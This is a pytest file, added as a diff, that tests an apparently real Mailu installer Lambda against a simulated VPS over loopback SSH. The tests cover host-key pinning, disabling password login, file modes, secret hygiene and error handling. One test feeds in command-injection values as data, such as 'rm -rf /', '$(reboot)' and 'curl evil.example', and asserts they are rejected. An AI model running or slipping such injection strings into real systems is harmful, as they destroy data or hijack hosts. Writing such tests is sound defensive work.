@@ -1,0 +1,350 @@
+"""The real installer (paramiko) against a simulated VPS over real SSH/SFTP on loopback,
+through the mailu_installer Lambda as the state machine will call it."""
+
+from __future__ import annotations
+
+import json
+import stat
+from collections.abc import Iterator
+from dataclasses import dataclass
+from typing import Any
+from uuid import uuid4
+
+import boto3
+import paramiko
+import pytest
+from moto import mock_aws
+
+from inboxfleet.kms import encrypt_text
+from inboxfleet.mailu.dkim import rsa_bits
+from inboxfleet.mailu.errors import (
+    HostKeyMismatch,
+    InvalidMailuCommand,
+    MailuNotReady,
+    RemoteCommandFailed,
+    SshUnreachable,
+)
+from local.hostwinds_sim import HostwindsSimulator
+from local.invoke import invoke
+from local.template import REPO_ROOT
+from local.vps_sim import (
+    FailingCommand,
+    HostKeyChanged,
+    NeverHealthy,
+    SimulatedHost,
+    Slow,
+    Unreachable,
+)
+from tests.aws_support import put_secret
+from tests.hostwinds_support import API_KEY, FakeClock
+from tests.ssh_support import platform_key
+
+EVENTS = REPO_ROOT / "events" / "MailuInstallerFunction"
+SERVER_IP = "198.51.100.1"
+ROOT_PASSWORD = "hwroot-vps-initial-pw"
+MAILBOX_PASSWORD = "Mailbox-Pw-7f3a9c"
+HEALTHY_AFTER_S = 60.0
+KEY_SECRET = "inboxfleet/local/platform-ssh-key"
+
+
+@dataclass
+class Vps:
+    host: SimulatedHost
+    clock: FakeClock
+    kms_key: str
+    fingerprint: str = ""
+
+    def event(self, name: str, **changes: Any) -> dict[str, Any]:
+        data: dict[str, Any] = json.loads((EVENTS / f"{name}.json").read_text())
+        data["server_ip"] = SERVER_IP
+        if "host_key_fingerprint" in data:
+            data["host_key_fingerprint"] = self.fingerprint
+        return {**data, **changes}
+
+    def call(self, name: str, **changes: Any) -> dict[str, Any]:
+        result: dict[str, Any] = invoke("MailuInstallerFunction", self.event(name, **changes))
+        return result
+
+    def ciphertext(self, tenant: str, inbox: str, password: str = MAILBOX_PASSWORD) -> str:
+        return encrypt_text(self.kms_key, password, {"tenant_id": tenant, "inbox_id": inbox})
+
+    def path(self, remote: str) -> Any:
+        return self.host.sandbox / remote.lstrip("/")
+
+
+@pytest.fixture
+def vps(monkeypatch: pytest.MonkeyPatch) -> Iterator[Vps]:
+    clock = FakeClock()
+    with (
+        mock_aws(),
+        HostwindsSimulator(api_keys={API_KEY}) as hostwinds,
+        SimulatedHost(
+            ip=SERVER_IP,
+            authorized_keys=[platform_key().public_openssh],
+            root_password=ROOT_PASSWORD,
+            clock=clock,
+            healthy_after_s=HEALTHY_AFTER_S,
+        ) as host,
+    ):
+        host.register(hostwinds)
+        for var, value in {
+            "AWS_DEFAULT_REGION": "us-east-1",
+            "AWS_ACCESS_KEY_ID": "testing",
+            "AWS_SECRET_ACCESS_KEY": "testing",
+            "MAILU_SSH_KEY_SECRET": KEY_SECRET,
+            "MAILU_CONNECT_TIMEOUT_S": "3",
+            "MAILU_COMMAND_TIMEOUT_S": "5",
+            "SSH_ADDRESS_BOOK_URL": hostwinds.url.replace("/cloud/api.php", "/_sim/address-book"),
+        }.items():
+            monkeypatch.setenv(var, value)
+        put_secret(KEY_SECRET, platform_key().private_openssh)
+        kms_key = boto3.client("kms").create_key()["KeyMetadata"]["KeyId"]
+        yield Vps(host, clock, kms_key)
+
+
+def provisioned(vps: Vps) -> Vps:
+    """secure -> install -> healthy: the state configure needs."""
+    vps.fingerprint = vps.call("secure")["host_key_fingerprint"]
+    vps.call("install")
+    vps.clock.advance(HEALTHY_AFTER_S)
+    return vps
+
+
+def password_login(vps: Vps) -> None:
+    client = paramiko.SSHClient()
+    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+    try:
+        client.connect(
+            "127.0.0.1",
+            port=vps.host.port,
+            username="root",
+            password=ROOT_PASSWORD,
+            allow_agent=False,
+            look_for_keys=False,
+            timeout=5,
+        )
+    finally:
+        client.close()
+
+
+def test_secure_pins_the_key_disables_passwords_and_opens_only_mail_ports(vps: Vps) -> None:
+    password_login(vps)  # the fresh VPS accepts its root password
+    first = vps.call("secure")
+    assert first["host_key_fingerprint"] == vps.host.host_key_fingerprint
+    assert "sshd: password login off" in first["changed"]
+    with pytest.raises(paramiko.AuthenticationException):
+        password_login(vps)
+    drop_in = vps.path("/etc/ssh/sshd_config.d/00-inboxfleet.conf")
+    assert "PasswordAuthentication no" in drop_in.read_text()
+    assert stat.S_IMODE(drop_in.stat().st_mode) == 0o644
+
+    vps.fingerprint = first["host_key_fingerprint"]
+    again = vps.call("secure", host_key_fingerprint=vps.fingerprint)
+    assert again["changed"] == []
+
+
+def test_install_lands_the_files_with_their_modes_and_starts_the_stack(vps: Vps) -> None:
+    vps.fingerprint = vps.call("secure")["host_key_fingerprint"]
+    result = vps.call("install")
+    assert "/mailu/mailu.env" in result["changed"]
+    assert any(c.startswith("stack starting") for c in result["changed"])
+    modes = {
+        p: stat.S_IMODE(vps.path(p).stat().st_mode)
+        for p in (
+            "/mailu",
+            "/mailu/mailu.env",
+            "/mailu/docker-compose.yml",
+            "/mailu/overrides/nginx/mta-sts.conf",
+        )
+    }
+    assert modes == {
+        "/mailu": 0o700,
+        "/mailu/mailu.env": 0o600,
+        "/mailu/docker-compose.yml": 0o644,
+        "/mailu/overrides/nginx/mta-sts.conf": 0o644,
+    }
+    env = vps.path("/mailu/mailu.env").read_text()
+    assert "DOMAIN=acme-outreach.example" in env
+    assert "HOSTNAMES=mail.acme-outreach.example,mta-sts.acme-outreach.example" in env
+
+    with pytest.raises(MailuNotReady, match="admin"):
+        vps.call("status")
+    vps.clock.advance(HEALTHY_AFTER_S)
+    assert vps.call("status")["ready"] is True
+
+
+def test_a_second_install_changes_nothing(vps: Vps) -> None:
+    provisioned(vps)
+    before = {
+        p: vps.path(p).read_bytes() for p in ("/mailu/mailu.env", "/mailu/docker-compose.yml")
+    }
+    commands_before = len(vps.host.commands)
+    again = vps.call("install")
+    assert again["changed"] == []
+    assert {p: vps.path(p).read_bytes() for p in before} == before
+    assert not any(c.startswith("systemd-run") for c in vps.host.commands[commands_before:])
+
+
+def test_configure_creates_domain_dkim_and_mailbox(vps: Vps) -> None:
+    provisioned(vps)
+    tenant, inbox = str(uuid4()), str(uuid4())
+    result = vps.call(
+        "configure",
+        tenant_id=tenant,
+        inbox_id=inbox,
+        password_ciphertext=vps.ciphertext(tenant, inbox),
+    )
+    assert rsa_bits(result["dkim_public_key"]) == 2048
+    assert result["records"]["dns_mx"] == (
+        "acme-outreach.example. 600 IN MX 10 mail.acme-outreach.example."
+    )
+    assert vps.host.mailu.password_matches("sales@acme-outreach.example", MAILBOX_PASSWORD)
+    assert (
+        vps.call(
+            "configure",
+            tenant_id=tenant,
+            inbox_id=inbox,
+            password_ciphertext=vps.ciphertext(tenant, inbox),
+        )["changed"]
+        == []
+    )
+
+
+def test_a_ciphertext_from_another_inbox_does_not_decrypt(vps: Vps) -> None:
+    provisioned(vps)
+    tenant = str(uuid4())
+    stolen = vps.ciphertext(tenant, str(uuid4()))
+    with pytest.raises(Exception, match="does not decrypt"):
+        vps.call("configure", tenant_id=tenant, inbox_id=str(uuid4()), password_ciphertext=stolen)
+
+
+def test_suspend_resume_and_remove_a_mailbox(vps: Vps) -> None:
+    provisioned(vps)
+    tenant, inbox = str(uuid4()), str(uuid4())
+    vps.call(
+        "configure",
+        tenant_id=tenant,
+        inbox_id=inbox,
+        password_ciphertext=vps.ciphertext(tenant, inbox),
+    )
+    email = "sales@acme-outreach.example"
+    assert vps.call("suspend")["changed"] == [f"mailbox {email} disabled"]
+    assert vps.host.mailu.users[email].enabled is False
+    assert vps.call("suspend")["changed"] == []
+    vps.call("resume")
+    assert vps.host.mailu.users[email].enabled is True
+    assert vps.call("remove_mailbox")["changed"] == [f"mailbox {email} deleted"]
+    assert vps.call("remove_mailbox")["changed"] == []
+
+
+def test_no_secret_ever_appears_in_a_command_the_host_received(vps: Vps) -> None:
+    provisioned(vps)
+    tenant, inbox = str(uuid4()), str(uuid4())
+    vps.call(
+        "configure",
+        tenant_id=tenant,
+        inbox_id=inbox,
+        password_ciphertext=vps.ciphertext(tenant, inbox),
+    )
+    env = vps.path("/mailu/mailu.env").read_text()
+    secrets = [
+        line.split("=", 1)[1]
+        for line in env.splitlines()
+        if line.startswith(("SECRET_KEY=", "API_TOKEN="))
+    ]
+    secrets += [MAILBOX_PASSWORD, platform_key().private_openssh.splitlines()[1]]
+    assert len(secrets) == 4
+    for command in vps.host.commands:
+        for secret in secrets:
+            assert secret not in command
+
+
+@pytest.mark.parametrize(
+    ("event", "changes"),
+    [
+        ("install", {"domain": "acme.example; rm -rf /"}),
+        ("install", {"domain": "$(reboot).example"}),
+        ("install", {"domain": "acme.example && curl evil.example"}),
+        ("suspend", {"address": "sales@acme.example; reboot"}),
+        ("suspend", {"address": "$(id)@acme.example"}),
+        ("remove_mailbox", {"address": "a'b@acme.example"}),
+        ("secure", {"server_ip": "127.0.0.1; reboot"}),
+    ],
+)
+def test_injection_attempts_never_reach_the_host(
+    vps: Vps, event: str, changes: dict[str, Any]
+) -> None:
+    vps.fingerprint = "SHA256:" + "A" * 43
+    with pytest.raises(InvalidMailuCommand):
+        vps.call(event, **changes)
+    assert vps.host.commands == []
+
+
+def test_a_changed_host_key_is_refused(vps: Vps) -> None:
+    vps.fingerprint = vps.call("secure")["host_key_fingerprint"]
+    vps.host.inject(HostKeyChanged())
+    with pytest.raises(HostKeyMismatch, match="pinned"):
+        vps.call("install")
+    assert not any("docker" in c for c in vps.host.commands)
+
+
+def test_an_unreachable_host_is_a_named_retryable_error(vps: Vps) -> None:
+    vps.host.inject(Unreachable())
+    with pytest.raises(SshUnreachable):
+        vps.call("secure")
+    vps.host.restore()
+    assert vps.call("secure")["host_key_fingerprint"] == vps.host.host_key_fingerprint
+
+
+def test_a_slow_host_times_out_into_a_named_error(
+    vps: Vps, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("MAILU_COMMAND_TIMEOUT_S", "1")
+    vps.host.inject(Slow(delay_s=30.0, times=1))
+    with pytest.raises(SshUnreachable):
+        vps.call("secure")
+
+
+def test_a_container_that_never_gets_healthy_keeps_status_not_ready(vps: Vps) -> None:
+    vps.host.inject(NeverHealthy(service="admin"))
+    provisioned(vps)
+    vps.clock.advance(HEALTHY_AFTER_S * 10)
+    with pytest.raises(MailuNotReady, match="admin"):
+        vps.call("status")
+    tenant, inbox = str(uuid4()), str(uuid4())
+    with pytest.raises(MailuNotReady):
+        vps.call(
+            "configure",
+            tenant_id=tenant,
+            inbox_id=inbox,
+            password_ciphertext=vps.ciphertext(tenant, inbox),
+        )
+
+
+def test_a_failing_command_names_itself_with_its_stderr(vps: Vps) -> None:
+    vps.fingerprint = vps.call("secure", host_key_fingerprint=None)["host_key_fingerprint"]
+    vps.path("/etc/ssh/sshd_config.d/00-inboxfleet.conf").unlink()  # makes secure run ufw again
+    vps.host.inject(
+        FailingCommand(
+            program="sshd",
+            exit_status=255,
+            stderr="/etc/ssh/sshd_config line 9: Bad configuration option: Nonsense\n",
+        )
+    )
+    with pytest.raises(
+        RemoteCommandFailed, match=r"sshd exited 255: .*Bad configuration option"
+    ) as info:
+        vps.call("secure")
+    assert info.value.command == "sshd"
+
+
+def test_configure_before_install_is_not_ready(vps: Vps) -> None:
+    vps.fingerprint = vps.call("secure")["host_key_fingerprint"]
+    tenant, inbox = str(uuid4()), str(uuid4())
+    with pytest.raises(MailuNotReady, match="not installed"):
+        vps.call(
+            "configure",
+            tenant_id=tenant,
+            inbox_id=inbox,
+            password_ciphertext=vps.ciphertext(tenant, inbox),
+        )
